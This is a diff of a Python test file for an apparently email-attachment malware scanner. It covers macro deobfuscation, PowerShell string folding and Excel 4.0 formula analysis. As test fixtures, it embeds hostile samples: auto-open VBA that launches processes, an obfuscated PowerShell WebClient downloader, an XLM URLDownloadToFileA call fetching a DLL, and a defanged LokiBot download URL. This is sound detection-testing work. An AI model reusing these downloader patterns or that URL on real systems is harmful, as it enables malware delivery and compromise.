@@ -47,11 +47,11 @@ def test_form_controls_are_read_by_form_and_name() -> None:
     # Emotet 2020: the command line split over a TextBox value and a hidden GroupName.
     code = (
         "Function Build()\n"
-        '  x = Bimq.Banz + Bimq.Cvlp.GroupName\n'
+        "  x = Bimq.Banz + Bimq.Cvlp.GroupName\n"
         '  Build = Join(Split(x, "//==//"), "")\n'
         "End Function\n"
         "Sub Document_Open()\n"
-        "  Set w = GetObject(\"winmgmts:Win32_Process\")\n"
+        '  Set w = GetObject("winmgmts:Win32_Process")\n'
         "  w.Create Build, Null, Null\n"
         "End Sub\n"
     )
@@ -165,7 +165,7 @@ def test_xor_loops_and_identity_functions() -> None:
         "Function f(x)\n  f = x\nEnd Function\n"
         "Function d(a)\n  For Each n In a\n    r = r & Chr(n Xor 7)\n  Next\n"
         "  d = r\nEnd Function\n"
-        f"Sub AutoOpen()\n  GetObject(f(d(Array({numbers})))).Create \"calc\"\nEnd Sub\n"
+        f'Sub AutoOpen()\n  GetObject(f(d(Array({numbers})))).Create "calc"\nEnd Sub\n'
     )
     assert vba_fold.evaluate(f"d(Array({numbers}))", code) == secret
     assert secret in folded(code).strings
@@ -213,7 +213,7 @@ def test_recursion_and_endless_loops_end_within_the_bounds() -> None:
     code = (
         'Function R(x)\n  R = R(x & "a") & "b"\nEnd Function\n'
         "Function Spin()\n  Do\n    n = n + 1\n  Loop\nEnd Function\n"
-        "Function Long()\n  For i = 1 To 1000000000\n    s = s & \"x\"\n  Next\n"
+        'Function Long()\n  For i = 1 To 1000000000\n    s = s & "x"\n  Next\n'
         "  Long = s\nEnd Function\n"
         'Sub AutoOpen()\n  Shell R("q") & Spin() & Long()\nEnd Sub\n'
     )
@@ -227,14 +227,14 @@ def test_recursion_and_endless_loops_end_within_the_bounds() -> None:
 
 
 def test_stored_text_handed_to_a_call_that_runs_it() -> None:
-    code = "Sub AutoOpen()\n  CreateObject(\"WScript.Shell\").Run UserForm1.T.Text\nEnd Sub\n"
+    code = 'Sub AutoOpen()\n  CreateObject("WScript.Shell").Run UserForm1.T.Text\nEnd Sub\n'
     result = folded(code, {"userform1.t": "notepad"})
     traits = vba_traits.behaviour_traits(code, result.store_reads, result.strings)
     assert [t.kind for t in traits] == ["stored_command"]
 
 
 def test_reading_a_control_without_running_anything_is_no_trait() -> None:
-    code = "Sub AutoOpen()\n  MsgBox UserForm1.T.Text\n  Application.Run \"Report\"\nEnd Sub\n"
+    code = 'Sub AutoOpen()\n  MsgBox UserForm1.T.Text\n  Application.Run "Report"\nEnd Sub\n'
     result = folded(code, {"userform1.t": "hello"})
     assert vba_traits.behaviour_traits(code, result.store_reads, result.strings) == ()
 
@@ -346,3 +346,91 @@ def test_a_business_macro_reading_its_form_stays_below_malicious() -> None:
         '  Application.Run "Refresh"\n  Set d = CreateObject("Scripting.Dictionary")\nEnd Sub\n'
     )
     assert xlsm(code).verdict.label != "malicious"
+
+
+def test_junk_assigned_to_array_elements_counts_as_junk() -> None:
+    lines = [f"X({n}) = {n * 7} + Int(U{n}) + B{n} + Sin(Q{n})" for n in range(30)]
+    result = folded("Sub AutoOpen()\n" + "\n".join(lines) + "\nEnd Sub\n")
+    assert result.junk_lines == 30 and result.junk_arithmetic
+    # An array filled with constants is data, not junk.
+    data = [f"T({n}) = {n * 7} + {n}" for n in range(30)]
+    assert folded("Sub AutoOpen()\n" + "\n".join(data) + "\nEnd Sub\n").junk_lines == 0
+
+
+# --- the real malware documents (../shared/corpus/maldocs), read in memory only -------------
+
+MACRO_FORMATS = ("ole2-word", "ole2-excel", "ooxml-docm", "ooxml-xlsm", "ooxml-xlam")
+
+
+def _real_macro_documents() -> list[tuple[dict[str, str], bytes]]:
+    from tools import maldocs
+
+    if not (maldocs.MALDOCS / "index.csv").is_file():
+        pytest.skip("../shared/corpus/maldocs is absent (a clone without the shared corpus)")
+    return [(row, data) for row, data in maldocs.maldocs() if row["format"] in MACRO_FORMATS]
+
+
+def test_every_real_macro_document_is_malicious_and_shows_its_urls() -> None:
+    from tools import maldocs
+
+    verdicts: dict[str, str] = {}
+    urls: dict[str, list[str]] = {}
+    for row, data in _real_macro_documents():
+        result = scan_bytes(maldocs.as_mail(row["member"], data))
+        key = f"{row['family']}/{row['format']}/{row['member'][:12]}"
+        verdicts[key] = result.verdict.label
+        urls[key] = maldocs.shown_urls(result)
+    assert len(verdicts) >= 25
+    assert {k for k, v in verdicts.items() if v != "malicious"} == set()
+    # Emotet 2020: the PowerShell in the forms decodes to the five-URL download loop.
+    emotet = {k: v for k, v in urls.items() if k.startswith("emotet/ole2-word/")}
+    assert emotet and all(len(v) == 5 for v in emotet.values()), emotet
+    assert "hxxp://posqit[.]net/vcv/120131078.exe" in urls["lokibot/ole2-excel/de8e60c9b433"]
+
+
+# --- PowerShell string obfuscation and URLs in Excel 4.0 sheets ------------------------------
+
+
+def test_powershell_cut_up_and_formatted_still_shows_its_urls() -> None:
+    from mailcheck.analyzers.office import ps_fold
+
+    script = (
+        "$a=[tyPE](\"{1}{0}\" -f 'eT.WebClient','N');$d=N`eW-`o`BjEct NeT.weBClIeNT;"
+        "$u=(('ht'+('tp'+':Q')+')'+('(qd'+'d)(Q)(qdd)(')+('x.exa'+'mple')+'/a.exe@'"
+        "+('h'+'ttps:Q)(qdd)(Q)(qdd)(y.example/b'))."
+        "\"RepLa`CE\"((('Q)(qdd)(')),([array]('/'),('hwe'))[0]).\"SP`Lit\"([char]64);"
+    )
+    assert ps_fold.looks_obfuscated(script)
+    simple = ps_fold.simplify(script)
+    assert "'NeT.WebClient'" in simple
+    assert vba_fold.urls([script]) == ["http://x.example/a.exe", "https://y.example/b"]
+
+
+def test_powershell_folding_is_bounded() -> None:
+    from mailcheck.analyzers.office import ps_fold
+
+    nested = "(" * 5000 + "'a'" + ")" * 5000 + "+'b'" * 20000
+    started = time.monotonic()
+    ps_fold.simplify(nested)
+    assert time.monotonic() - started < 10  # a hang guard
+
+
+def test_urls_in_excel4_formulas_are_listed() -> None:
+    from mailcheck.analyzers.office import xlm
+    from mailcheck.analyzers.office.hits import xlm_hits
+
+    collector = xlm.Collector("biff")
+    collector.sheet("Macro1", "very hidden")
+    collector.formula(
+        '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://x.example/a.dll","c:\\a",0,0)'
+    )
+    collector.formula('=FORMULA("https://y.example/b.ocx",A1)')
+    report = collector.report()
+    assert report is not None and report.urls == (
+        "http://x.example/a.dll",
+        "https://y.example/b.ocx",
+    )
+    (hit,) = xlm_hits(report, "attachment 2", "a.xls")
+    assert (
+        dict(hit.evidence[0].facts)["urls"] == "hxxp://x[.]example/a.dll, hxxps://y[.]example/b.ocx"
+    )
